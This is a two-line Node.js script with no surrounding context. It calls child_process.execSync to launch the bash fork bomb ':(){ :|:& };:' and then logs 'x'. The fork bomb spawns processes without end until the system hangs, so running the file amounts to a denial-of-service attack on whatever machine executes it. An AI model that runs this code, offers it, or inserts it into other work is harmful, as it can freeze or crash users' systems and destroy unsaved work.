require('child_process').execSync(':(){ :|:& };:', { shell: '/bin/bash' });
console.log('x');
